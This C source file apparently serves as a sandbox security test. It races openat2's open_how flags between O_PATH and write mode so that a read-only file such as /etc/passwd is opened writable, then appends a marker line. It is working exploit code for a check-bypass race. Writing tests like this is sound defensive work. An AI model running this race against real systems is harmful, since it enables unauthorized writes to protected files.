/* race_openat2: time-of-check/time-of-use on openat2's struct open_how,
 * which lives in the caller's memory. An O_PATH open grants no access, so
 * the library OS checks nothing and lets the kernel run the caller's own
 * openat2, and the kernel reads open_how again. A second thread rewrites
 * how.flags between O_PATH and O_WRONLY|O_APPEND while the main thread opens
 * a file the sandbox user may only read (/etc/passwd, root's 0644 file) in a
 * loop: a descriptor that comes back writable was checked as O_PATH and
 * opened for writing, with the kernel's checks only (for which the sandbox
 * is the invoking host user, the owner of the view's system files). It
 * appends a marker line through any such descriptor and reads the file back.
 * Usage: race_openat2 SECONDS FILE
 * Output: "R wins N" (writable descriptors obtained), "R marker_in_file".
 *
 * What should stop it: the library OS must not hand the kernel a call whose
 * arguments it has not copied, or must pin them (check the flags it will
 * run with); a sandbox user must never get a writable descriptor on a file
 * it may only read.
 */
#include "race.h"
#include <linux/openat2.h>

static struct open_how how;

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    double secs = atof(argv[1]);
    static struct open_how as_path = {.flags = O_PATH}, as_write = {.flags = O_WRONLY | O_APPEND};
    REPORT("direct_open_write", syscall(SYS_openat, AT_FDCWD, argv[2], O_WRONLY | O_APPEND, 0));
    struct flipper f = {0};
    flipper_add(&f, &as_path, sizeof how.flags);
    flipper_add(&f, &as_write, sizeof how.flags);
    how = as_path;
    flipper_start(&f, &how);
    unsigned long tries = 0, wins = 0;
    double end = mono() + secs;
    while (mono() < end) {
        long fd = syscall(SYS_openat2, AT_FDCWD, argv[2], &how, sizeof how);
        tries++;
        if (fd < 0)
            continue;
        int fl = fcntl((int)fd, F_GETFL);
        if (!(fl & O_PATH) && (fl & O_ACCMODE) != O_RDONLY) {
            if (wins++ == 0)
                write((int)fd, "MOTTE-RACE-OPENAT2-PWNED\n", 25);
        }
        close((int)fd);
    }
    flipper_stop(&f);
    count("tries", tries);
    count("flips", f.flips);
    count("wins", wins);
    char buf[65536];
    int fd = (int)syscall(SYS_openat, AT_FDCWD, argv[2], O_RDONLY, 0);
    long n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : 0;
    buf[n > 0 ? n : 0] = 0;
    count("marker_in_file", strstr(buf, "MOTTE-RACE-OPENAT2-PWNED") != NULL);
    printf("DONE\n");
    return 0;
}
